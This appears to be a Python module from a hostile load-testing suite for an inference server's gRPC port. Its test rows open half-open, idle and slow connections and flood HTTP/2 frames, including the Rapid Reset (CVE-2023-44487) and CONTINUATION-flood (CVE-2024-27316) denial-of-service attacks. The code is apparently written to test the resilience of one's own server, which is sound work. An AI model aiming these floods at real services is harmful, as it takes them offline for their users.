"""The gRPC port: half-open connections and floods of frames."""

import asyncio
import contextlib
import itertools
from collections.abc import Iterable

from loadtest.hostile import h2
from loadtest.hostile.row import Target, row
from loadtest.hostile.wire import connect, hold

KIND = "gRPC"
KEYED = {"keys": True, "statuses": ".*"}
INFER = "ModelInfer"


def at_grpc(target: Target) -> Target:
    """Return the target with the gRPC port and the same outcome."""
    return Target(target.host, target.grpc_port, target.port, target.pid, target.quick, target.outcome)


async def all_at_once(target: Target, count: int, first: bytes, drip: bytes = b"") -> None:
    await asyncio.gather(*(hold(at_grpc(target), first, drip) for _ in range(count)))


@row(
    "grpc-half-open",
    KIND,
    "100 connections to the gRPC port that send nothing, half a preface or another protocol",
    **KEYED,
)
async def grpc_half_open(target: Target) -> None:
    firsts = (b"", h2.PREFACE[:10], h2.PREFACE, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", b"\x16\x03\x01\x00\xf4\x01")
    await asyncio.gather(*(all_at_once(target, target.size(20, 4), first) for first in firsts))


@row("grpc-idle", KIND, "100 connections that send nothing after the handshake", **KEYED)
async def grpc_idle(target: Target) -> None:
    await all_at_once(target, target.size(100, 20), h2.START + h2.frame(h2.SETTINGS, h2.ACK))


@row("grpc-slow-messages", KIND, "100 calls that send a byte of their message a second, no key", **KEYED)
async def grpc_slow_messages(target: Target) -> None:
    first = (
        h2.START
        + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call(INFER))
        + h2.frame(h2.DATA, 0, 1, h2.message(1 << 20))
    )
    await all_at_once(target, target.size(100, 20), first, h2.frame(h2.DATA, 0, 1, b"x"))


@row("grpc-slow-streams", KIND, "100 open streams without messages, no key", **KEYED)
async def grpc_slow_streams(target: Target) -> None:
    first = h2.START + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call("ModelStreamInfer"))
    await all_at_once(target, target.size(100, 20), first, h2.frame(h2.PING, 0, 0, bytes(8)))


@row("grpc-many-streams", KIND, "20 connections with 1000 open calls each, no key", **KEYED)
async def grpc_many_streams(target: Target) -> None:
    calls = [h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * i + 1, h2.call(INFER)) for i in range(target.size(1000, 200))]
    await all_at_once(target, target.size(20, 4), h2.START + b"".join(calls))


@row("grpc-half-headers", KIND, "50 calls whose header block does not end, a CONTINUATION a second", **KEYED)
async def grpc_half_headers(target: Target) -> None:
    first = h2.START + h2.frame(h2.HEADERS, 0, 1, h2.call(INFER))
    await all_at_once(target, target.size(50, 10), first, h2.frame(h2.CONTINUATION, 0, 1, h2.header("x", "y")))


async def flood(target: Target, frames: Iterable[bytes], seconds: float) -> None:
    """Send frames as fast as the server accepts them, for `seconds` or until it closes."""
    loop = asyncio.get_running_loop()
    until = loop.time() + seconds
    with contextlib.suppress(OSError, TimeoutError):
        reader, writer = await connect(at_grpc(target))
        reading = asyncio.create_task(_read_all(reader))
        with contextlib.suppress(OSError):
            writer.write(h2.START)
            for each in frames:
                writer.write(each)
                await writer.drain()
                if loop.time() > until or reading.done():
                    break
        target.outcome.statuses["closed" if reading.done() else "taken"] += 1
        reading.cancel()
        writer.transport.abort()


async def _read_all(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(1 << 16):
            pass


@row("grpc-rapid-reset", KIND, "4 connections that open calls and reset them at once (CVE-2023-44487)", **KEYED)
async def grpc_rapid_reset(target: Target) -> None:
    def frames() -> Iterable[bytes]:
        headers, cancel = h2.call(INFER), (8).to_bytes(4, "big")
        for i in itertools.count():
            yield h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * i + 1, headers) + h2.frame(
                h2.RST_STREAM, 0, 2 * i + 1, cancel
            )

    await asyncio.gather(*(flood(target, frames(), target.size(6, 1)) for _ in range(4)))


@row("grpc-continuations", KIND, "4 connections with CONTINUATION frames without end (CVE-2024-27316)", **KEYED)
async def grpc_continuations(target: Target) -> None:
    more = itertools.repeat(h2.frame(h2.CONTINUATION, 0, 1, h2.header("x", "y" * 1000) * 8))
    frames = itertools.chain([h2.frame(h2.HEADERS, 0, 1, h2.call(INFER))], more)
    await asyncio.gather(*(flood(target, frames, target.size(6, 1)) for _ in range(4)))


@row("grpc-pings", KIND, "4 connections with PING and SETTINGS frames without end", **KEYED)
async def grpc_pings(target: Target) -> None:
    kinds = (h2.frame(h2.PING, 0, 0, bytes(8)) * 100, h2.frame(h2.SETTINGS) * 100)
    await asyncio.gather(
        *(flood(target, itertools.repeat(each), target.size(6, 1)) for each in kinds for _ in range(2))
    )


@row("grpc-metadata", KIND, "calls with 16 MB of metadata: many, long names, long values", **KEYED)
async def grpc_metadata(target: Target) -> None:
    size = target.size(16 << 20, 2 << 20)
    for fields in ([("x", "y" * size)], [(f"x{i}", "y" * 100) for i in range(size // 120)], [("x" * size, "y")]):
        block = h2.call("ServerLive", *fields)
        pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        frames = [h2.frame(h2.HEADERS, 0, 1, pieces[0])]
        frames += [h2.frame(h2.CONTINUATION, 0, 1, piece) for piece in pieces[1:]]
        await flood(target, frames, 5)
